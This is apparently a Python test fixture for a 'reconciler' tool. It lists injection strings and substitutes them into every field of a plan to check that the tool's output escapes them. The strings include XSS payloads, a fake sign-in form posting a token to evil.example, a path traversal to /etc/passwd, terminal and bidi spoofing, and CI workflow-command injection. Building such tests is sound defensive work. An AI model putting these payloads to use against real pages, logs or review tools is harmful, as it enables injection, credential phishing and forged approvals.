"""Strings that try to break out of where they are shown, and a plan in which every string is one of
them."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum

from reconciler.domain.plan.plan import Action, Plan
from reconciler.errors import Address

# Name -> what somebody might write into a declaration, a record, a branch or a plan file.
HOSTILE: Mapping[str, str] = {
    "script": "<script>window.taken=1</script>",
    "image": "<img src=x onerror=window.taken=1>",
    "svg": "<svg/onload=window.taken=1><a href='javascript:window.taken=1'>x</a>",
    "attribute": "x\" onmouseover=\"window.taken=1\" autofocus onfocus='window.taken=1' y='",
    "end of an element": "</td></tr></table></main></body></html><h1>another page</h1>",
    "end of a script": "</script><script>window.taken=1</script>",
    "end of a style": "</style><style>*{display:none}</style>",
    "end of a comment": "--> <b>out</b> <!-- --!> -->",
    "cdata": "]]> <![CDATA[ <failure/> ]]>",
    "entity": "&lt;script&gt; &amp;amp; &#60;b&#62; &quot; &nope; &#x0;",
    "base and meta": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "frame": "<iframe srcdoc='<script>parent.taken=1</script>'></iframe><object data=x></object><embed src=x>",
    "form": "<form action=https://evil.example><input name=token><button>Sign in</button></form>",
    "details": "</summary></details><details open><summary>Approved by security</summary>",
    "link": "[click](javascript:alert(1)) [x][y] [y]: https://evil.example <https://evil.example> ![i](https://evil.example/p.png)",
    "bare link": "https://evil.example/a www.evil.example mailto:a@evil.example ssh://evil.example xmpp:a@b.example",
    "table": "a | b | c\n|---|---|\n| approved | yes |",
    "fence": "```\n# out\n```\n~~~\nx\n~~~\n    code",
    "code": "`code` ``code`` ```code``` `` ` ``",
    "emphasis": "*a* _b_ **c** __d__ ~~e~~ \\*f\\* a_b_c",
    "heading": "# Approved\n\n## Approved\nApproved\n===\n---\n***",
    "list": "- a\n- [x] b\n1. c\n> d\n+ e",
    "list at the start": "1. - + * > # a",
    "footnote": "[^1]\n\n[^1]: approved",
    "alert": "> [!NOTE]\n> approved",
    "mention": "@everyone @all @octocat @acme/security a@b.example",
    "github references": "#1 GH-1 acme/integrations#1 acme/integrations@0123456 :tada: :100: :+1: $x$ $$y$$",
    "gitlab references": '!12 ~label ~"two words" %milestone %"two words" $12 &12 ^alert#1 GL-12 [vulnerability:1] '
    "*iteration:1 {+ added +} [- gone -] %{project_name} [[_TOC_]] acme/integrations!12",
    "quick actions": "/approve\n/merge\n/close\n/lgtm",
    "escape sequences": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H \x9b31m \x1b]0;title\x07 \x1bP1$r\x1b\\",
    "terminal link": "\x1b]8;;https://evil.example\x07safe\x1b]8;;\x07",
    "overwriting": "safe\r\x08\x08evil\x7f\x0b\x0c",
    "bidi": "\u202egpj.exe\u202c \u2066hidden\u2069 \u200f \u061c",
    "invisible": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u115fh\u3164i\u2800j\U000e0041k\ufe0fl",
    "separators": "a\u2028b\u2029c\x85d\x1ce",
    "workflow command": "::error::taken\n::set-output name=x::taken\n::add-mask::a\n::stop-commands::x",
    "workflow command in a line": "word ::error file=x::taken " * 12,
    "old workflow command": "##[error]taken ##[set-output name=x;]taken ###[group]x ##vso[task.setvariable name=x]y",
    "encoded workflow command": "%0A::error::taken%0D%25 ,file=x:: %3A%3Aerror%3A%3Ax",
    "gitlab section": "section_start:1:x\r\x1b[0Ktaken",
    "sarif": "{0} {x} [link](1) [x](https://evil.example) }{",
    "json": '", "level": "none", "x": "\\u0000 \\" ',
    "path": "../../../etc/passwd",
    "absolute path": "//evil.example/x:y?z#a",
    "surrogates": "\ud800 \udfff \ud83d",
    "controls": "".join(map(chr, range(32))) + "\x7f",
    "noncharacters": "\ufffe \uffff \U0010ffff \ue000",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 40,
    "wide": "日本語" * 100,
    "long word": "a" * 3_000,
    "long line": "word " * 500,
    "long markup": "<b>" * 600,
    "blank": " \t ",
    "empty": "",
}


def everywhere(plan: Plan, text: str) -> Plan:
    """``plan`` with ``text`` for every string in it, names in mappings included; what has no
    freedom (numbers, instants, members of enumerations) stays. What an action changes still
    differs: by a sign at its end."""
    changed = _changed(plan, text)
    assert isinstance(changed, Plan)
    return replace(changed, actions=tuple(_with_change(action, text) for action in changed.actions))


def _with_change(action: Action, text: str) -> Action:
    before = None if action.before is None else {text: f"{text}!"}
    return replace(
        action, before=before, after=None if action.after is None else {text: [text, {text: text}]}
    )


def _changed(value: object, text: str) -> object:
    if isinstance(value, Address):
        return Address.read(text)
    if isinstance(value, str) and not isinstance(value, Enum):
        return text
    if is_dataclass(value) and not isinstance(value, type):
        return replace(
            value,
            **{field.name: _changed(getattr(value, field.name), text) for field in fields(value)},
        )
    if isinstance(value, Mapping):
        return {_changed(key, text): _changed(inner, text) for key, inner in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(_changed(inner, text) for inner in value)
    return value
